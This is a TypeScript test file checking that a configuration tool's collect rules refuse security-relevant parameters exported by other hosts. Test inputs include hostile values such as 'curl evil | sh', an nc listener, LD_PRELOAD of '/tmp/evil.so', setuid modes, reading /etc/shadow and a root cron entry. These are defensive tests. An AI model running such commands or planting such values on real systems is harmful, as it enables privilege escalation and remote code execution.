import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { parseGraphText } from '../../src/frontends/load.js';
import { buildGraph, vertexReuse, type KindRegistry } from '../../src/graph/build.js';
import { collectMemo, collectResources, type CollectedResource, type ExportEntry } from '../../src/graph/collect.js';
import type { Graph } from '../../src/graph/graph.js';
import { resourceId } from '../../src/graph/ids.js';
import { createRegistry } from '../../src/resources/registry.js';
import type { AnyResourceKind } from '../../src/resources/types.js';
import { GRAPH_FILE, allKinds, build, buildErrors, registry } from '../helpers/graph.js';

const graph = `resources:
  - { kind: file, name: /tmp/a/private, content: "mine" }
  - { kind: file, name: /tmp/a/shared-1, content: "for all", export: true }
  - { kind: file, name: /tmp/a/shared-2, content: "for b", export: [b] }
collect:
  - { kind: file, set: { path: "/tmp/in/{host}-{basename}" } }
`;

describe('export and collect', () => {
  test('exported resources are validated and published, not managed here', () => {
    const g = build(graph);
    assert.deepEqual([...g.vertices.keys()], ['file[/tmp/a/private]']);
    assert.deepEqual(
      g.exports.map((e) => [e.kind, e.name, e.to]),
      [
        ['file', '/tmp/a/shared-1', '*'],
        ['file', '/tmp/a/shared-2', ['b']],
      ],
    );
    assert.deepEqual(g.exports[0]?.params, { content: 'for all' }, 'published as written, defaults left to the collector');
    assert.equal(g.collect.length, 1);
  });

  test('an invalid exported resource is an error in its own file; an edge to an export is refused', () => {
    const errors = buildErrors(`resources:
  - { kind: file, name: relative, export: true }
  - { kind: noop, name: n, require: "file[/x]" }
  - { kind: file, name: /x, export: true }
  - { kind: noop, name: m, export: 42 }
collect:
  - { kind: file, frm: a }
`);
    const text = errors.map((e) => `${e.where?.line ?? 0}: ${e.message}`);
    assert.ok(text.some((t) => t.startsWith('2: ') && /must be an absolute path/.test(t)), text.join('\n'));
    assert.ok(text.some((t) => /file\[\/x\], which is exported, not managed on this host/.test(t)), text.join('\n'));
    assert.ok(text.some((t) => t.startsWith('5: ') && /"export" must be true/.test(t)), text.join('\n'));
    assert.ok(text.some((t) => t.startsWith('7: ') && /unknown collect key "frm"/.test(t)), text.join('\n'));
  });

  test('collection: addressed to this host, matching a rule, parameters rewritten per exporter', () => {
    const exports = build(graph).exports;
    const entries: ExportEntry[] = [
      ...exports.map((resource) => ({ host: 'a', resource })),
      { host: 'c', resource: { kind: 'file', name: '/tmp/c/shared-1', params: { content: 'from c' }, meta: undefined, to: '*' } },
      { host: 'c', resource: { kind: 'exec', name: 'x', params: { cmd: ['true'] }, meta: undefined, to: '*' } },
    ];
    const rules = build(graph).collect;
    const onB = collectResources('b', rules, entries, registry);
    // Named by where they are written (what this host's log lines show), and still knowing the exporter's name.
    assert.deepEqual(
      onB.map((r) => [r.origin, r.name, r.exportedAs, r.params['path']]),
      [
        ['a', '/tmp/in/a-shared-1', '/tmp/a/shared-1', '/tmp/in/a-shared-1'],
        ['a', '/tmp/in/a-shared-2', '/tmp/a/shared-2', '/tmp/in/a-shared-2'],
        ['c', '/tmp/in/c-shared-1', '/tmp/c/shared-1', '/tmp/in/c-shared-1'],
      ],
    );
    const onC = collectResources('c', rules, entries, registry);
    assert.deepEqual(onC.map((r) => r.exportedAs), ['/tmp/a/shared-1', '/tmp/c/shared-1'], 'shared-2 is only for b; exec is not collected');
    // Collected resources build like local ones.
    const raw = parseGraphText(GRAPH_FILE, graph);
    const g = buildGraph({ ...raw, resources: [...raw.resources, ...onB] }, registry);
    assert.equal(g.vertices.size, 4);
    assert.equal((g.vertices.get('file[/tmp/in/c-shared-1]' as never)?.params as { path: string }).path, '/tmp/in/c-shared-1');
    // The same render twice names everything the same: a re-render swaps nothing that did not change.
    const ids = (rs: readonly { kind: string; name: string }[]): string[] => rs.map((r) => `${r.kind}[${r.name}]`);
    assert.deepEqual(ids(collectResources('b', rules, [...entries].reverse(), registry)), ids(onB));
  });

  test('two hosts exporting one name to different paths here are two resources, not a clash', () => {
    const rules = build(graph).collect;
    const same = (host: string): ExportEntry => ({ host, resource: { kind: 'file', name: '/etc/motd', params: { content: host }, meta: undefined, to: '*' } });
    assert.deepEqual(collectResources('x', rules, [same('a'), same('b')], registry).map((r) => r.name), ['/tmp/in/a-motd', '/tmp/in/b-motd']);
    // Without a path of its own, a resource keeps the exporter's name.
    const taken = build(`resources: []\ncollect:\n  - { kind: file, from: [a], take: [path, content] }\n`).collect;
    assert.deepEqual(collectResources('x', taken, [same('a')], registry).map((r) => r.name), ['/etc/motd']);
  });

  test('from limits the exporters collected from', () => {
    const g = build(`resources: []\ncollect:\n  - { kind: file, from: [c], take: [path] }\n`);
    const entries: ExportEntry[] = [
      { host: 'a', resource: { kind: 'file', name: '/a', params: {}, meta: undefined, to: '*' } },
      { host: 'c', resource: { kind: 'file', name: '/c', params: {}, meta: undefined, to: '*' } },
    ];
    assert.deepEqual(collectResources('b', g.collect, entries, registry).map((r) => r.exportedAs), ['/c']);
  });
});

/** One export from `host` (default b) of `kind[name]` with `params`, to every host. */
function exp(kind: string, name: string, params: Record<string, unknown>, meta?: unknown, host = 'b'): ExportEntry {
  return { host, resource: { kind, name, params, meta, to: '*' } };
}

/** What collecting `entry` on host a under the rules of `yaml` (a graph's collect section) gives. */
function collectOne(yaml: string, entry: ExportEntry): { params: Record<string, unknown>; refused: string | undefined; meta: unknown } {
  const rules = build(`resources: []\ncollect:\n${yaml}`).collect;
  const out = collectResources('a', rules, [entry], registry);
  assert.equal(out.length, 1, 'the export matches the rule');
  const r = out[0];
  assert.ok(r !== undefined);
  return { params: r.params, refused: r.refused, meta: r.meta };
}

const FILE_RULE = '  - { kind: file, set: { path: "/srv/in/{host}-{basename}" } }\n';

describe('collect is the collector’s decision: power parameters are taken only when the rule names them', () => {
  test('file: content and a plain mode are taken by default; the rule’s set wins over the exporter', () => {
    const r = collectOne(FILE_RULE, exp('file', '/etc/shadow', { path: '/etc/shadow', content: 'x\n', mode: '0640' }));
    assert.equal(r.refused, undefined);
    assert.deepEqual(r.params, { content: 'x\n', mode: '0640', path: '/srv/in/b-shadow' });
  });

  const refusedFile: [string, Record<string, unknown>, RegExp][] = [
    ['source (a root-only file copied out)', { source: '/etc/shadow' }, /does not take 'source' \(which local file root copies\)/],
    ['owner', { content: 'x', owner: 0 }, /does not take 'owner'/],
    ['owner by name', { content: 'x', owner: 'root' }, /does not take 'owner'/],
    ['group', { content: 'x', group: 'shadow' }, /does not take 'group'/],
    ['a symlink target', { type: 'symlink', target: '/etc/shadow' }, /does not take 'target' \(where a symlink points\)/],
    ['mode 4755 (setuid)', { content: 'x', mode: '4755' }, /does not take 'mode' "4755" \(setuid, setgid and sticky bits\)/],
    ['mode 2755 (setgid)', { content: 'x', mode: '2755' }, /'mode' "2755"/],
    ['mode 1777 (sticky), as a number', { content: 'x', mode: 0o1777 }, /'mode' 1023/],
    ['a symbolic setuid mode', { content: 'x', mode: 'u=rwxs,go=rx' }, /'mode' "u=rwxs,go=rx" \(setuid/],
    ['a YAML 1.2 octal setuid mode', { content: 'x', mode: '0o4755' }, /'mode' "0o4755"/],
  ];
  for (const [what, params, reason] of refusedFile) {
    test(`file: an export choosing ${what} is refused whole when the rule does not take it`, () => {
      const r = collectOne(FILE_RULE, exp('file', '/tmp/x', params));
      assert.match(r.refused ?? '(collected)', reason);
    });
  }

  test('file: each power parameter is taken when the rule names it, setuid bits included', () => {
    const rule = '  - { kind: file, from: [b], take: [source, owner, group, mode], set: { path: "/srv/in/{basename}" } }\n';
    const r = collectOne(rule, exp('file', '/tmp/x', { source: '/srv/build/tool', owner: 'app', group: 0, mode: '4755' }));
    assert.equal(r.refused, undefined);
    assert.deepEqual(r.params, { source: '/srv/build/tool', owner: 'app', group: 0, mode: '4755', path: '/srv/in/x' });
    const link = collectOne('  - { kind: file, take: [type, target, path] }\n', exp('file', '/srv/l', { type: 'symlink', target: '/srv/t' }));
    assert.deepEqual(link.params, { type: 'symlink', target: '/srv/t' }, 'path taken: it defaults to the exporter’s name');
  });

  test('with an explicit take, every other parameter is the collector’s: non-power ones are dropped', () => {
    const r = collectOne('  - { kind: file, take: [content], set: { path: "/srv/in/{basename}" } }\n', exp('file', '/tmp/x', { content: 'c', mode: '0600', force: true }));
    assert.deepEqual(r.params, { content: 'c', path: '/srv/in/x' });
    // Parameters the kind does not know are never taken (nor do they break the resource).
    const u = collectOne(FILE_RULE, exp('file', '/tmp/y', { content: 'c', bogus: 1 }));
    assert.deepEqual(u.params, { content: 'c', path: '/srv/in/b-y' });
  });

  test('file: a rule that neither sets nor takes path is refused at collection too (the exporter would choose it by the name)', () => {
    const rules = [{ kind: 'file', from: '*' as const, set: {}, loc: { file: 'g', line: 1, col: 1 } }];
    const [r] = collectResources('a', rules, [exp('file', '/etc/cron.d/evil', { content: '* * * * * root sh\n' })], registry);
    assert.match(r?.refused ?? '(collected)', /neither sets nor takes 'path'.*where root writes/);
  });

  test('exec: no command from an exporter unless taken; the rule may set the command and take harmless parameters', () => {
    const byDefault = collectOne('  - { kind: exec }\n', exp('exec', 'x', { cmd: ['sh', '-c', 'id > /tmp/pwned'] }));
    assert.match(byDefault.refused ?? '(collected)', /does not take 'cmd' \(the command root runs\)/);
    const set = '  - { kind: exec, set: { cmd: [/usr/local/bin/deploy, "{host}"] } }\n';
    for (const [param, value] of [
      ['onlyif', 'curl evil | sh'],
      ['unless', ['false']],
      ['watch', { cmd: ['nc', '-l', '4444'] }],
      ['shell', '/tmp/evil-shell'],
      ['cwd', '/tmp'],
      ['env', { LD_PRELOAD: '/tmp/evil.so' }],
    ] as const) {
      const r = collectOne(set, exp('exec', 'x', { cmd: ['x'], [param]: value }));
      assert.ok(r.refused === undefined || !r.refused.includes("'cmd'"), 'cmd is the rule’s (set)');
      assert.match(r.refused ?? '(collected)', new RegExp(`does not take '${param}'`), param);
    }
    const ok = collectOne(set, exp('exec', 'x', { cmd: ['x'], timeout: 5, refreshOnly: true }));
    assert.deepEqual(ok.params, { timeout: 5, refreshOnly: true, cmd: ['/usr/local/bin/deploy', 'b'] });
    const taken = collectOne('  - { kind: exec, from: [b], take: [cmd] }\n', exp('exec', 'x', { cmd: ['make'] }));
    assert.deepEqual(taken.params, { cmd: ['make'] });
  });

  test('svc: command, user, group, env, cwd, exec health checks, reload commands and log paths are power', () => {
    const rule = '  - { kind: svc, set: { cmd: [/usr/sbin/worker], user: worker } }\n';
    const refused: [string, unknown][] = [
      ['group', 'root'],
      ['env', { LD_PRELOAD: '/tmp/x.so' }],
      ['cwd', '/root'],
      ['health', { exec: ['sh', '-c', 'evil'] }],
      ['reload', { cmd: ['sh', '-c', 'evil'] }],
      ['log', { stdout: '/etc/cron.d/x' }],
    ];
    for (const [param, value] of refused) {
      const r = collectOne(rule, exp('svc', 'w', { [param]: value }));
      assert.match(r.refused ?? '(collected)', new RegExp(`does not take '${param}'`), param);
    }
    // The rule's user is the collector's: the exporter cannot run the process as root instead.
    const harmless = collectOne(rule, exp('svc', 'w', { user: 'root', health: { http: 'http://127.0.0.1:1/' }, reload: { signal: 'HUP' }, log: { keep: 2 } }));
    assert.equal(harmless.refused, undefined);
    assert.deepEqual(harmless.params, {
      health: { http: 'http://127.0.0.1:1/' },
      reload: { signal: 'HUP' },
      log: { keep: 2 },
      cmd: ['/usr/sbin/worker'],
      user: 'worker',
    });
    assert.match(collectOne('  - { kind: svc }\n', exp('svc', 'w', { cmd: ['/bin/sh'] })).refused ?? '', /does not take 'cmd'/);
  });

  test('pkg: which package, and whether it is removed, are the collector’s unless taken', () => {
    const rule = '  - { kind: pkg, from: [b], take: [name] }\n';
    assert.equal(collectOne(rule, exp('pkg', 'nginx', {})).refused, undefined);
    assert.match(collectOne(rule, exp('pkg', 'openssh-server', { state: 'absent' })).refused ?? '', /does not take 'state'/);
    assert.match(collectOne('  - { kind: pkg, from: [b], take: [name] }\n', exp('pkg', 'x', { name: 'evil' })).refused ?? '(taken)', /^\(taken\)$/);
    const set = collectOne('  - { kind: pkg, set: { name: "nginx" } }\n', exp('pkg', 'anything', { name: 'evil' }));
    assert.deepEqual(set.params, { name: 'nginx' });
  });

  test('user and group: uid, groups, shell and home are never an exporter’s to choose by default', () => {
    const rule = '  - { kind: user, from: [b], take: [name] }\n';
    for (const [param, value] of [
      ['uid', 0],
      ['gid', 0],
      ['group', 'root'],
      ['groups', ['sudo']],
      ['shell', '/bin/bash'],
      ['home', '/root'],
      ['state', 'absent'],
    ] as const) {
      assert.match(collectOne(rule, exp('user', 'deploy', { [param]: value })).refused ?? '(collected)', new RegExp(`does not take '${param}'`), param);
    }
    assert.deepEqual(collectOne(rule, exp('user', 'deploy', { comment: 'Deploy' })).params, {}, 'not taken: dropped');
    assert.deepEqual(collectOne('  - { kind: user, from: [b], take: [name, comment] }\n', exp('user', 'deploy', { comment: 'Deploy' })).params, { comment: 'Deploy' });
    const g = '  - { kind: group, from: [b], take: [name] }\n';
    assert.match(collectOne(g, exp('group', 'sudo', { members: ['evil'] })).refused ?? '', /does not take 'members'/);
    assert.match(collectOne(g, exp('group', 'x', { gid: 0 })).refused ?? '', /does not take 'gid'/);
  });

  test('template: the template file read, owner and setuid bits are power; inline text and vars are taken', () => {
    const rule = '  - { kind: template, set: { path: "/srv/in/{basename}" } }\n';
    assert.match(collectOne(rule, exp('template', '/t', { source: '/etc/shadow' })).refused ?? '', /does not take 'source'/);
    assert.match(collectOne(rule, exp('template', '/t', { template: 'x', mode: '4755' })).refused ?? '', /'mode' "4755"/);
    assert.deepEqual(collectOne(rule, exp('template', '/t', { template: 'x {{ vars.a }}', vars: { a: 1 } })).params, {
      template: 'x {{ vars.a }}',
      vars: { a: 1 },
      path: '/srv/in/t',
    });
  });

  test('the exporter’s metaparams are not taken, except noop: true (which only makes a resource do less)', () => {
    const hostile = collectOne(FILE_RULE, exp('file', '/x', { content: 'c' }, { retry: -1, delay: 0, sema: ['apt:1'], poll: 0.01 }));
    assert.equal(hostile.meta, undefined);
    const noop = collectOne(FILE_RULE, exp('file', '/x', { content: 'c' }, { noop: true, retry: 3 }));
    assert.deepEqual(noop.meta, { noop: true });
  });
});

describe('collect rules are validated: unknown parameters, missing identity, power takes', () => {
  test('taking a power parameter is a warning with the rule’s line, naming who can then choose what', () => {
    const g = build(`resources: []
collect:
  - { kind: file, set: { path: "/srv/in/{host}-{basename}" } }
  - { kind: file, from: [b, c], take: [content, source, mode], set: { path: "/srv/b/{basename}" } }
  - { kind: exec, take: [cmd] }
`);
    const text = g.warnings.map((w) => `${w.where?.line ?? 0}: ${w.code}: ${w.message} (${w.hint ?? ''})`);
    assert.deepEqual(text, [
      "4: W_POWER_TAKE: collect[1].take: 'source' lets any of b, c exporting file choose which local file root copies on this host (take it only from hosts you trust with it, or set it instead)",
      "4: W_POWER_TAKE: collect[1].take: 'mode' lets any of b, c exporting file choose setuid, setgid and sticky bits on this host (take it only from hosts you trust with it, or set it instead)",
      "5: W_POWER_TAKE: collect[2].take: 'cmd' lets any host exporting exec choose the command root runs on this host (restrict `from` to hosts you trust, or set it instead of taking it)",
    ]);
  });

  test('an unknown parameter in take or set is an error with a suggestion; so is an unknown kind', () => {
    const errors = buildErrors(`resources: []
collect:
  - { kind: file, take: [contnet], set: { path: /srv/x, onwer: root } }
  - { kind: fiel }
  - { kind: file, take: source }
`);
    const text = errors.map((e) => `${e.where?.line ?? 0}: ${e.message} (${e.hint ?? ''})`);
    assert.ok(text.includes('3: collect[0].take: file has no parameter "contnet" (did you mean "content"?)'), text.join('\n'));
    assert.ok(text.includes('3: collect[0].set: file has no parameter "onwer" (did you mean "owner"?)'), text.join('\n'));
    assert.ok(text.some((t) => t.startsWith('4: collect[1]: unknown resource kind "fiel" (did you mean "file"?')), text.join('\n'));
    assert.ok(text.some((t) => t.startsWith('5: "take" must be a list of parameter names')), text.join('\n'));
  });

  test('a rule that neither sets nor takes a parameter derived from the name (file path, package name) is an error', () => {
    const errors = buildErrors(`resources: []
collect:
  - { kind: file }
  - { kind: pkg, take: [state] }
`);
    const text = errors.map((e) => `${e.where?.line ?? 0}: ${e.message} (${e.hint ?? ''})`);
    assert.equal(text.length, 2, text.join('\n'));
    assert.match(text[0] ?? '', /^3: collect\[0\]: a file rule must set or take 'path' \('path' defaults to the resource's name, which the exporter chooses; set it per exporter, e\.g\. set: \{ path: "\/srv\/collected\/\{host\}-\{basename\}" \}/);
    assert.match(text[1] ?? '', /^4: collect\[1\]: a pkg rule must set or take 'name'/);
  });
});

describe('collecting again', () => {
  test('a re-render reuses what did not change: the same entry gives the same resource, the same resource the same vertex, validated once', () => {
    // Every kind wrapped (so a new kind object) and its parameter checks counted.
    let checks = 0;
    const counting: KindRegistry = createRegistry(
      allKinds.map(
        (k): AnyResourceKind => ({
          ...k,
          schema: new Proxy(k.schema, {
            get(target, prop, receiver) {
              const v: unknown = Reflect.get(target, prop, receiver);
              if (prop !== 'safeParse' || typeof v !== 'function') return v;
              return (...args: unknown[]) => (checks++, (v as (...a: unknown[]) => unknown).apply(target, args));
            },
          }),
          // The kind's shortcut is a parameter check too, when it answers (else the schema is asked, and counted).
          ...(k.quickParams === undefined
            ? {}
            : {
                quickParams: (name: string, params: Readonly<Record<string, unknown>>) => {
                  const q = k.quickParams?.(name, params);
                  if (q !== undefined) checks++;
                  return q;
                },
              }),
        }),
      ),
    );
    const raw = parseGraphText(GRAPH_FILE, 'resources: []\ncollect:\n  - { kind: file, set: { path: "/tmp/in/{host}-{basename}" } }\n');
    const entry = (host: string, content: string): ExportEntry => ({ host, resource: { kind: 'file', name: `/tmp/${host}/f`, params: { content }, meta: undefined, to: '*' } });
    const a = entry('a', 'one');
    const c1 = entry('c', 'two');
    const memo = collectMemo();
    const reuse = vertexReuse();
    const render = (entries: ExportEntry[], rules = raw.collect ?? []): { collected: CollectedResource[]; graph: Graph } => {
      const collected = collectResources('b', rules, entries, counting, memo);
      return { collected, graph: buildGraph({ ...raw, resources: collected }, counting, reuse) };
    };
    const first = render([a, c1]);
    assert.equal(checks, 2);
    assert.equal(first.graph.vertices.size, 2);

    // c's export changed (a new entry, as the link hands over a changed export); a's is the same object as before.
    const c2 = entry('c', 'three');
    const second = render([c2, a]);
    assert.equal(second.collected[0], first.collected[0], "a's collected resource is the one made before");
    assert.notEqual(second.collected[1], first.collected[1]);
    const va = resourceId('file', '/tmp/in/a-f');
    const vc = resourceId('file', '/tmp/in/c-f');
    assert.equal(second.graph.vertices.get(va), first.graph.vertices.get(va), "a's vertex is the one built before");
    assert.equal(checks, 3, 'only the changed export is validated again');
    assert.deepEqual((second.graph.vertices.get(vc)?.params as { content?: string } | undefined)?.content, 'three');
    assert.deepEqual([...second.graph.vertices.keys()], [va, vc], 'in the same order as a fresh build');
    assert.deepEqual(second.graph.edges, buildGraph({ ...raw, resources: collectResources('b', raw.collect ?? [], [a, c2], counting) }, counting).edges);

    // The same rules parsed again (an edit of the graph file): still the same. Other rules: everything is collected
    // anew. Another registry's kinds: nothing built before is taken.
    const again = parseGraphText(GRAPH_FILE, 'resources: []\ncollect:\n  - { kind: file, set: { path: "/tmp/in/{host}-{basename}" } }\n').collect ?? [];
    assert.equal(render([a, c2], again).collected[0], first.collected[0]);
    const other = parseGraphText(GRAPH_FILE, 'resources: []\ncollect:\n  - { kind: file, set: { path: "/tmp/other/{host}-{basename}" } }\n').collect ?? [];
    assert.equal(render([a, c2], other).collected[0]?.name, '/tmp/other/a-f');
    assert.notEqual(render([a, c2], raw.collect).collected[0], first.collected[0]);
    const byOthers = buildGraph({ ...raw, resources: second.collected }, registry, reuse);
    assert.notEqual(byOthers.vertices.get(va), first.graph.vertices.get(va));
  });
});
